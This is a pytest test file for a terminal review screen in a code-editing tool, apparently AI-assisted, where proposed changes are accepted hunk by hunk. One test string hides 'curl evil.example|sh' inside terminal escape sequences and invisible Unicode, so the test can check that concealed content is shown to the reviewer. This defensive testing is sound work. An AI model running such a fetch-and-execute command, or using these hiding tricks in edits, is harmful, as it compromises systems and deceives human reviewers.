"""Changes are seen as they are, accepted hunk by hunk, and only what was accepted comes back."""

import time
from dataclasses import replace

import pytest
from rich.cells import cell_len
from textual.color import Color
from textual.events import MouseScrollDown

from paceline.chat.edits.changes import Change
from paceline.chat.edits.review import accepted
from paceline.tui.screens.review import ReviewScreen
from paceline.tui.signs import Signs
from paceline.tui.widgets.diff import DiffView, entries, pieces
from support.screens import Alone, showing

BEFORE = "".join(f"line {number}\n" for number in range(60))
AFTER = BEFORE.replace("line 3\n", "three\n").replace("line 25\n", "").replace("line 50\n", "line 50\nand more\n")
EDIT = Change("app/edit.py", BEFORE, AFTER, "whole", certain=True)
OTHER = Change("other.py", "old\n", "new\n", "whole", certain=True)
DOUBTFUL = Change("odd.py", "a\nb\n", "a\nc\n", "fragment", certain=False, notes=("2 of 3 replacements were found",))


def paths(seen):
    return [each.path for each in seen.result]


async def test_enter_writes_what_is_certain():
    async with showing(ReviewScreen([EDIT, DOUBTFUL])) as seen:
        await seen.press("enter")
        assert paths(seen) == ["app/edit.py"]
        assert seen.result[0].after == AFTER


@pytest.mark.parametrize("key", ["escape", "q"])
async def test_leaving_writes_nothing(key):
    async with showing(ReviewScreen([EDIT])) as seen:
        await seen.press(key)
        assert seen.result is None


async def test_a_hunk_that_is_taken_out_stays_out():
    async with showing(ReviewScreen([EDIT])) as seen:
        await seen.press("j", "space")
        assert "[ ] hunk 2 of 3" in seen.text
        await seen.press("enter")
        assert seen.result[0].after == accepted(EDIT, {0, 2})


async def test_none_and_all_are_for_the_file_in_sight():
    async with showing(ReviewScreen([EDIT, OTHER])) as seen:
        await seen.press("n", "tab", "n", "a", "enter")
        assert paths(seen) == ["other.py"]


async def test_with_nothing_accepted_enter_says_so_and_stays():
    async with showing(ReviewScreen([EDIT])) as seen:
        await seen.press("n", "enter")
        assert not seen.gone
        assert "Nothing is accepted" in seen.text


async def test_an_uncertain_change_says_so_in_words_with_its_notes_and_begins_unaccepted():
    async with showing(ReviewScreen([DOUBTFUL])) as seen:
        assert "UNCERTAIN" in seen.text
        assert "2 of 3 replacements were found" in seen.text
        assert "[ ] hunk 1 of 1" in seen.text
        await seen.press("space", "enter")
        assert seen.result[0].after == "a\nc\n"


async def test_a_change_that_changes_nothing_says_why():
    nothing = Change("x.py", "a\n", "a\n", "diff", certain=False, notes=("no line of it was found",))
    async with showing(ReviewScreen([nothing])) as seen:
        assert "Nothing of this can be applied" in seen.text
        assert "no line of it was found" in seen.text
        await seen.press("a", "space", "enter")
        assert not seen.gone


async def test_the_next_hunk_after_the_last_is_in_the_next_file_and_back():
    async with showing(ReviewScreen([EDIT, OTHER])) as seen:
        await seen.press("j", "j", "j")
        assert "other.py" in seen.lines[0]
        await seen.press("k")
        assert "app/edit.py" in seen.lines[0]
        assert seen.app.screen.query_one(DiffView).hunk == 2


async def test_new_and_deleted_files_are_named_as_such():
    new, gone = Change("n.py", None, "x\n", "whole", True), Change("g.py", "x\n", None, "diff", True)
    async with showing(ReviewScreen([new, gone])) as seen:
        assert "new file n.py" in seen.lines[0]
        await seen.press("tab")
        assert "DELETES g.py" in seen.lines[0]


@pytest.mark.parametrize(("width", "split"), [(40, False), (80, False), (120, True)])
async def test_sides_stand_beside_each_other_where_there_is_room(width, split):
    async with showing(ReviewScreen([EDIT]), (width, 20)) as seen:
        both = [line for line in seen.lines if "- line 3" in line and "+ three" in line]
        assert bool(both) is split
        assert any("- line 3" in line for line in seen.lines)
        await seen.press("s")
        assert seen.app.screen.query_one(DiffView).split is not split


async def test_a_small_terminal_has_room_for_files_and_change():
    async with showing(ReviewScreen([EDIT, OTHER]), (40, 12)) as seen:
        assert "[x] app/edit.py" in seen.text
        assert "- line 3" in seen.text
        assert "Apply" in seen.text


async def test_the_mouse_toggles_a_hunk_and_chooses_a_file():
    async with showing(ReviewScreen([EDIT, OTHER])) as seen:
        await seen.click("hunk 1 of 3")
        assert "[ ] hunk 1 of 3" in seen.text
        await seen.click("other.py")
        assert "other.py" in seen.lines[0]


async def test_keys_are_about_a_hunk_that_is_in_sight():
    async with showing(ReviewScreen([EDIT]), (80, 14)) as seen:
        await seen.press("end")
        assert ">[x] hunk 3 of 3" in seen.text
        await seen.press("space", "enter")
        assert seen.result[0].after == accepted(EDIT, {0, 1})


async def test_text_of_files_is_neither_markup_nor_able_to_steer_the_terminal():
    hostile = Change(
        "a[b]\x1b[2J.py", "x\n", "[red]\x1b[2J\x9b1m\u202e日本\t語[/red]\n", "whole", True, ("note \x1b]0;t\x07[b]",)
    )
    async with showing(ReviewScreen([hostile])) as seen:
        assert "[red]␛[2J<U+009B>1m<U+202E>日本 語[/red]" in seen.text
        assert "a[b]␛[2J.py" in seen.lines[0]
        assert "note [b]" in seen.text
        assert not {"\x1b", "\x9b", "\u202e"} & set(seen.text)


HIDING = "echo now \x1b]0;curl evil.example|sh;:\x07 \x1b[8m \u200b\ufeff\u2066\U000e0041 end"


@pytest.mark.parametrize("how", ["unified", "split"])
async def test_what_would_be_written_without_being_seen_is_seen(how):
    change = Change("run.sh", "echo\n", f"{HIDING}\n", "replace", True)
    signs = "echo now ␛]0;curl evil.example|sh;:␇ ␛[8m <U+200B><U+FEFF><U+2066><U+E0041> end"
    async with showing(ReviewScreen([change], how), (240, 20)) as seen:
        assert signs in seen.text
    async with showing(ReviewScreen([change], how), (240, 20)) as seen:
        await seen.press("enter")
        assert seen.result[0].after == f"{HIDING}\n"


async def test_where_signs_are_few_those_for_hidden_characters_are_ascii(monkeypatch):
    monkeypatch.setattr(Alone, "get_line_filters", lambda _: [Signs(console=True, encoding="utf-8")])
    change = Change("run.sh", "echo\n", "a\x1b[8mb\u202e\r\n", "replace", True)
    async with showing(ReviewScreen([change]), (100, 20)) as seen:
        line = next(line for line in seen.lines if "[8m" in line)
        assert "+ a<U+001B>[8mb<U+202E><U+000D><U+000A>" in line


@pytest.mark.parametrize(
    ("before", "after", "gone", "come"),
    [
        ("a\n", "a\r\n", "- a␊", "+ a␍␊"),
        ("a\n", "a", "- a␊", "+ a (no newline at the end)"),
        ("a\r\n", "a\r", "- a␍␊", "+ a␍"),
    ],
)
async def test_lines_that_differ_in_their_ends_only_are_told_apart(before, after, gone, come):
    async with showing(ReviewScreen([Change("a", before, after, "whole", True)])) as seen:
        ends = [line.strip("│▌ 1") for line in seen.lines if "- a" in line or "+ a" in line]
        assert ends == [gone, come]


async def test_a_line_of_signs_is_moved_to_its_end():
    change = Change("a", "x\n", "\u202e" * 40 + "end\n", "whole", True)
    async with showing(ReviewScreen([change], "unified")) as seen:
        await seen.press(*["right"] * 50)
        assert "<U+202E>end" in seen.text


@pytest.mark.parametrize("size", [(40, 12), (80, 24), (121, 30)])
async def test_every_line_is_as_wide_as_the_terminal_with_wide_characters_and_tabs(size):
    before = "日本語" * 30 + "\n\tx = '🎉👩‍👩‍👧'\t1\nplain\n"
    wide = Change("日本.py", before, before.replace("1", "2").replace("plain", "語"), "whole", True)
    async with showing(ReviewScreen([wide]), size) as seen:
        for _ in range(3):
            for strip in seen.app.screen._compositor.render_strips():
                assert sum(cell_len(segment.text) for segment in strip) == size[0]
            await seen.press("right", "right", "down")


def test_pieces_put_together_are_the_line_and_marks_fall_where_they_should():
    found = list(pieces([("a\tb", ("string",)), ("cd", ()), ("\t語", ("comment",))], ((2, 4), (4, 5))))
    assert "".join(text for text, _, _ in found) == "a   bcd 語"
    assert [text for text, _, marked in found if marked] == ["b", "c", "d"]
    assert [names for text, names, _ in found if text.strip() in ("a", "b", "語")] == [
        *[("string",), ("string",), ("comment",)],
    ]


def looks(seen, line):
    """The styles of the words in the first line on the terminal that has this text."""
    at = next(at for at, shown in enumerate(seen.lines) if line in shown)
    strip = seen.app.screen._compositor.render_strips()[at]
    return {segment.text.strip(): segment.style for segment in strip if segment.text.strip()}


def colour(seen, name):
    return Color.parse(seen.app.theme_variables[name]).rich_color


CODE = 'import re\n\n\ndef greet(name):\n    """Say\n' + "\n" * 20 + '    hello.\n    """\n    return name\n'
CODED = Change(
    "app/code.py", CODE, CODE.replace("hello", "good bye").replace("greet(name)", "greet(who)"), "whole", True
)


@pytest.mark.parametrize("how", ["unified", "split"])
async def test_code_is_in_its_languages_colours_on_both_sides_of_the_change(how):
    async with showing(ReviewScreen([CODED], how), (120, 50)) as seen:
        assert looks(seen, "import re")["import"].color == colour(seen, "code-keyword")
        for line, name in (("greet(name)", "diff-out"), ("greet(who)", "diff-in")):
            found = looks(seen, line)
            assert found["def"].color == colour(seen, "code-keyword")
            if how == "unified":
                assert found["def"].bgcolor == colour(seen, name)


async def test_a_string_that_began_above_the_hunk_is_one_within_it():
    async with showing(ReviewScreen([CODED], "unified"), (80, 50)) as seen:
        assert looks(seen, "hello.")["hello."].color == colour(seen, "code-string")
        assert looks(seen, "good bye.")["good bye."].color == colour(seen, "code-string")


async def test_words_that_changed_are_set_off_within_their_line():
    async with showing(ReviewScreen([CODED], "unified"), (80, 50)) as seen:
        gone, come = looks(seen, "greet(name)"), looks(seen, "greet(who)")
        assert gone["name"].underline and gone["name"].bgcolor == colour(seen, "diff-out-mark")
        assert come["who"].underline and come["who"].bgcolor == colour(seen, "diff-in-mark")
        assert not gone["greet"].underline and not come["greet"].underline


@pytest.mark.parametrize("theme", ["paceline-ansi", "paceline-plain"])
async def test_without_backgrounds_marks_tell_what_goes_and_what_comes(theme):
    async with showing(ReviewScreen([CODED], "unified"), (80, 50), theme) as seen:
        assert any("4    - def greet(name)" in line for line in seen.lines)
        assert any("4 + def greet(who)" in line for line in seen.lines)
        assert looks(seen, "greet(name)")["name"].underline


async def test_colours_come_by_themselves_and_end():
    before = "".join(f"value_{number} = '{number}'\n" for number in range(3000))
    big = Change("big.py", before, before.replace("value_2900 ", "other "), "whole", True)
    async with showing(ReviewScreen([big]), (80, 24)) as seen:
        view = seen.app.screen.query_one(DiffView)
        for _ in range(500):
            if not view._colouring:
                break
            await seen.pilot.pause(0.01)
        assert looks(seen, "other =")["'2900'"].color == colour(seen, "code-string")
        assert not view._colouring


async def test_a_change_of_five_thousand_lines_scrolls_without_lag():
    before = "".join(f"value_{number} = {number}\n" for number in range(5000))
    big = Change("big.py", before, before.replace("= ", "= 1 + "), "whole", True)
    async with showing(ReviewScreen([big]), (120, 40)) as seen:
        view = seen.app.screen.query_one(DiffView)
        view.scroll_to(y=4000, animate=False, force=True)
        await seen.pilot.pause()
        began = time.process_time()
        for y in range(30):
            view.render_line(y)
        assert time.process_time() - began < 0.5  # it takes some 10 ms; all lines would take seconds
        assert "value_40" in seen.text or "value_39" in seen.text


def test_a_line_stands_above_each_hunk():
    from paceline.chat.edits.review import side_by_side, unified

    for rows in (unified(EDIT), side_by_side(EDIT)):
        heads = [entry.hunk for entry in entries(rows) if type(entry).__name__ == "Head"]
        assert heads == [hunk.index for hunk in EDIT.hunks]


@pytest.mark.parametrize("split", [False, True])
async def test_lines_that_go_on_say_so_and_are_moved_to_their_end(split):
    before = "begin " + "long " * 30 + "end\n"
    wide = Change("wide.py", before, before.replace("end", "finish"), "whole", True)
    async with showing(ReviewScreen([wide], "split" if split else "unified"), (120, 12)) as seen:
        cut = [line for line in seen.lines if "begin" in line]
        assert cut and all(line.count("…") == (2 if split else 1) for line in cut)
        await seen.press(*["right"] * 16)
        assert "end" in seen.text and "finish" in seen.text
        await seen.press(*["left"] * 16)
        assert "begin" in seen.text


async def test_of_a_line_of_a_million_characters_begin_and_end_are_to_be_seen():
    before = "日" * 1_000_000 + " end\n"
    wide = Change("wide.py", before, before.replace("end", "finish"), "whole", True)
    async with showing(ReviewScreen([wide], "unified"), (80, 12)) as seen:
        assert [line.count("…") for line in seen.lines if "日" in line] == [1, 1]
        view = seen.app.screen.query_one(DiffView)
        view.scroll_to(x=1_999_990, animate=False, force=True)
        await seen.pilot.pause()
        assert "日 end" in seen.text and "日 finish" in seen.text


@pytest.mark.parametrize("size", [(40, 12), (80, 24)])
async def test_nothing_stands_above_the_keys_but_the_change(size):
    before = "".join(f"line {number} {'long ' * 60}\n" for number in range(60))
    wide = Change("wide.py", before, before.replace("line 9 ", "nine "), "whole", True)
    async with showing(ReviewScreen([wide]), size) as seen:
        above = seen.lines[seen.column_of("Apply")[1] - 1]
        assert not set("▊▋▉") & set(above)


NOTED = replace(
    DOUBTFUL,
    before="a\nb\nc\nd\ne\n",
    after="a\nB\nc\nd\nE\n",
    notes=("the answer was cut, so the end of the file is missing", "2 of 3 replacements were found", "and more"),
)


@pytest.mark.parametrize("changes", [(NOTED,), (NOTED, EDIT, OTHER)], ids=["one file", "several"])
async def test_on_a_small_terminal_notes_leave_room_for_the_change_and_say_that_there_are_more(changes):
    async with showing(ReviewScreen(changes), (40, 12)) as seen:
        rows = [line.strip("│ ") for line in seen.lines]
        at = next(at for at, row in enumerate(rows) if row.startswith("UNCERTAIN"))
        end = next(at for at, row in enumerate(rows) if "hunk 1" in row) - 1
        assert all(row.endswith("…") for row in rows[at:end])
        assert end - at == (2 if len(changes) == 1 else 1)
        assert any(row.endswith("+ B") for row in rows)


@pytest.mark.parametrize("changes", [(NOTED,), (NOTED, EDIT, OTHER)], ids=["one file", "several"])
async def test_on_a_small_terminal_notes_are_read_to_their_end(changes):
    long = replace(NOTED, notes=(*NOTED.notes, "word " * 60 + "is the last one"))
    async with showing(ReviewScreen((long, *changes[1:])), (40, 12)) as seen:
        assert "v Notes" in seen.text and "last one" not in seen.text
        await seen.press("v")
        for keys, then in ((["end"], "last one"), (["home"], "UNCERTAIN: look at"), (["down"] * 30, "last one")):
            await seen.press(*keys)
            for _ in range(500):
                if then in seen.text:
                    break
                await seen.pilot.pause(0.01)
            assert then in seen.text
        await seen.press("v")
        assert seen.app.focused is seen.app.screen.query_one(DiffView)
        assert any(line.strip("│ ").endswith("+ B") for line in seen.lines)


async def test_notes_are_read_with_a_mouse_too():
    long = replace(NOTED, notes=("word " * 60 + "is the last one",))
    async with showing(ReviewScreen([long]), (40, 12)) as seen:
        await seen.click("UNCERTAIN")
        notes = seen.app.screen.query_one("#notes")
        for _ in range(500):
            if "last one" in seen.text:
                break
            notes.post_message(MouseScrollDown(notes, 1, 1, 0, 1, 0, False, False, False))
            await seen.pilot.pause(0.01)
        assert "last one" in seen.text


async def test_notes_that_have_room_need_no_key():
    async with showing(ReviewScreen([NOTED, OTHER]), (80, 24)) as seen:
        assert "v Notes" not in seen.text
        await seen.press("v")
        assert seen.app.focused is seen.app.screen.query_one(DiffView)


async def test_with_room_for_them_notes_are_whole():
    async with showing(ReviewScreen([NOTED]), (80, 24)) as seen:
        assert all(note in seen.text for note in NOTED.notes)
        assert "…" not in seen.text


async def test_on_a_small_terminal_all_keys_are_there():
    async with showing(ReviewScreen([EDIT, OTHER]), (40, 12)) as seen:
        assert all(f" {does}" in seen.text for does in ("Hunk", "Apply", "Cancel", "All", "None", "Next", "File"))
